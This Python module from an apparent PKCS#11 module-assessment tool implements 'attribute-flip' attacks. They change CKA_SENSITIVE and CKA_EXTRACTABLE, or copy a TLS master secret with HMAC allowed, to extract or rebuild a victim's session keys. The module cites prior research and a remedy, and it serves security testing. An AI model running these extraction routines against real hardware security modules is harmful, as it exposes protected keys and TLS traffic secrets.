"""attribute-flip: the attributes that protect a key, changed by C_SetAttributeValue or on a copy by C_CopyObject."""

import hmac
import os
from abc import abstractmethod
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager, suppress
from typing import Final

from keyfence.cryptoki import CryptokiError, Mechanism
from keyfence.cryptoki.constants import CKA, CKK, CKM
from keyfence.cryptoki.values import Template
from keyfence.model import Chain, Key, Lengths, Oracle, Readable, Slice, Stream, Window
from keyfence.schedule import Side

from .base import Attack, Bench, Inconclusive, Known, Offer, Technique
from .recovery import Master, Recovery, Source, TrafficSecret, WriteKey
from .targets import VICTIM, Target, rebuild, rests_on_hmac, target_of
from .victim import Kind, Victim
from .wrapping import read

_READABLE: Final[tuple[Template, ...]] = (
    {CKA.SENSITIVE: False, CKA.EXTRACTABLE: True},
    {CKA.SENSITIVE: False},
    {CKA.EXTRACTABLE: True},
)
_PROTECTED: Final[Template] = {CKA.SENSITIVE: True, CKA.EXTRACTABLE: False}


class AttributeFlip(Technique):
    id = "attribute-flip"
    title = "Protection taken off by changing attributes"
    summary = (
        "CKA_SENSITIVE may only become true and CKA_EXTRACTABLE only false, in C_SetAttributeValue and on copies alike. A "
        "module that lets either go the other way gives the key away. A copy whose CKA_ALLOWED_MECHANISMS is another list "
        "lets a TLS 1.2 master secret compute HMAC, which rebuilds its key block."
    )
    section = "PKCS#11 3.2 §4.1 (modifying and copying objects), §5.7 (C_SetAttributeValue, C_CopyObject)"
    references = (
        "Bortolozzo, Centenaro, Focardi, Steel, CCS 2010 (Tookan)",
        "CVE-2015-5464",
        "Clulow, On the Security of PKCS #11, CHES 2003",
    )
    remedy = "A module that keeps to the one way; CKA_MODIFIABLE false and CKA_COPYABLE false on secrets."
    standard = False
    kinds = frozenset({Kind.SSL3, Kind.TLS10, Kind.TLS12, Kind.TLS13, Kind.SEPARATED, Kind.BARE})
    one_suite = True

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        yield SetAttack(victim)
        yield CopyAttack(victim)
        if rests_on_hmac(victim) and victim.handles.master:
            yield AllowedMechanismsAttack(victim)


class _FlipAttack(Attack):
    """A key made readable and read; rehearsed on one of ours that is protected as the victim's is."""

    def __init__(self, victim: Victim) -> None:
        self.victim = victim
        bare = victim.kind is Kind.BARE
        self.key = "client write key" if bare else "client traffic secret" if victim.kind is Kind.TLS13 else "master secret"
        self.length = victim.suite.cipher.key if bare else victim.secret_length

    @abstractmethod
    def take(self, bench: Bench, handle: int) -> bytes:
        """The key's value. Raises the module's first refusal."""

    @property
    def requires(self) -> tuple[int, ...]:
        return ()

    def probe(self, bench: Bench) -> Offer:
        if not bench.on_the_victim:
            own = self._own(bench)
            if self.take(bench, own.handle) != own.value and own.value is not None:
                raise Inconclusive("what was read is not the key's value")
        stream = Stream(VICTIM, "VALUE", b"")
        wanted = Slice(stream, 0, self.length, Key.of(CKK.GENERIC_SECRET), self.key)
        window = Window(self.name, stream, Readable(), Lengths.exactly(0), Lengths.exactly(self.length))
        return Offer((wanted,), (window,))

    def _own(self, bench: Bench) -> Known:
        if self.victim.kind is not Kind.BARE:
            return bench.rehearsal(self.victim)
        value = os.urandom(self.length)
        return Known(bench.import_key(CKK.AES, value, sensitive=True, extractable=False, encrypt=True), value)

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        handles = self.victim.handles
        if self.victim.kind is Kind.BARE:
            return WriteKey(Side.CLIENT, self.take(bench, handles.write_keys[Side.CLIENT]))
        if self.victim.kind is Kind.TLS13:
            return TrafficSecret(Side.CLIENT, self.take(bench, handles.traffic[Side.CLIENT]))
        return Master(self.take(bench, handles.master))

    def steps(self, chain: Chain) -> tuple[str, ...]:
        flip = f"{self.name}(the {self.key}, CKA_SENSITIVE=FALSE and CKA_EXTRACTABLE=TRUE, or one of them)"
        return (flip, "C_GetAttributeValue(CKA_VALUE), or C_WrapKey under a key of our own")


class SetAttack(_FlipAttack):
    """C_SetAttributeValue, on a copy where there can be one: the victim's own key is to stay as it is."""

    name = "C_SetAttributeValue"

    def take(self, bench: Bench, handle: int) -> bytes:
        refusal: CryptokiError | None = None
        with self._subject(bench, handle) as subject:
            for template in _READABLE:
                try:
                    bench.session.module.set_attribute_value(bench.session.handle, subject, template)
                    return read(bench, subject)
                except CryptokiError as error:
                    refusal = refusal or error
        assert refusal is not None
        raise refusal

    @contextmanager
    def _subject(self, bench: Bench, handle: int) -> Iterator[int]:
        try:
            subject = bench.session.copy(handle, {})
        except CryptokiError:
            subject = handle
        try:
            yield subject
        finally:
            if subject == handle:
                with suppress(CryptokiError):
                    bench.session.module.set_attribute_value(bench.session.handle, handle, _PROTECTED)


class CopyAttack(_FlipAttack):
    """C_CopyObject under a looser template."""

    name = "C_CopyObject"

    def take(self, bench: Bench, handle: int) -> bytes:
        refusal: CryptokiError | None = None
        for template in _READABLE:
            try:
                return read(bench, bench.session.copy(handle, template))
            except CryptokiError as error:
                refusal = refusal or error
        assert refusal is not None
        raise refusal


class AllowedMechanismsAttack(Attack):
    """A copy of the master secret that may compute HMAC, and the key block rebuilt from that (RFC 5246 §5)."""

    name = "C_CopyObject of CKA_ALLOWED_MECHANISMS"

    def __init__(self, victim: Victim) -> None:
        self.victim = victim
        self.target: Target = target_of(victim)
        self.mechanism = int(victim.prf_hash.ckm_hmac)

    @property
    def requires(self) -> tuple[int, ...]:
        return (self.mechanism,)

    def probe(self, bench: Bench) -> Offer:
        allowed = self._allowed(bench)
        if not bench.on_the_victim:
            self._rehearse(bench, allowed)
        function = f"HMAC-{self.victim.prf_hash.name}"
        return Offer(self.target.slices, (Oracle(self.name, VICTIM, function),))

    def _allowed(self, bench: Bench) -> tuple[int, ...]:
        """The victim's list. Inconclusive where there is none, or HMAC is on it: then no copy is called for."""
        try:
            allowed = bench.session.attribute(self.target.secret, CKA.ALLOWED_MECHANISMS)
        except CryptokiError as unknown:
            raise Inconclusive("the module keeps no CKA_ALLOWED_MECHANISMS that could be lifted") from unknown
        if not isinstance(allowed, tuple) or not allowed or self.mechanism in allowed:
            raise Inconclusive("CKA_ALLOWED_MECHANISMS does not stand in the way")
        return allowed

    def _rehearse(self, bench: Bench, allowed: tuple[int, ...]) -> None:
        """On a secret of ours with the victim's list."""
        value = os.urandom(self.victim.secret_length)
        flags: Mapping[str, bool] = {"sensitive": True, "extractable": False, "derive": True}
        own = bench.import_key(CKK.GENERIC_SECRET, value, **flags, allowed_mechanisms=allowed)
        answer = self._hmac(bench, self._copy(bench, own), value)
        if answer != hmac.digest(value, value, self.victim.prf_hash.name.lower()):
            raise Inconclusive("the copy's HMAC is not HMAC under the secret")

    def _copy(self, bench: Bench, handle: int) -> int:
        return bench.session.copy(handle, {CKA.ALLOWED_MECHANISMS: (self.mechanism,), CKA.SIGN: True})

    def _hmac(self, bench: Bench, handle: int, data: bytes) -> bytes:
        return bench.session.sign(Mechanism(self.mechanism), handle, data)

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        handle = self._copy(bench, self.target.secret)
        block = rebuild(self.target, lambda data: self._hmac(bench, handle, data))
        return self.target.recovery(block, Source.PUBLIC)

    def steps(self, chain: Chain) -> tuple[str, ...]:
        name = CKM(self.mechanism)
        return (
            f"C_CopyObject(the master secret, CKA_ALLOWED_MECHANISMS={{{name}}}, CKA_SIGN=TRUE)",
            *(f"C_Sign({name}) -> {step.uncovers[0].slice.part}" for step in chain.steps if step.uncovers),
        )
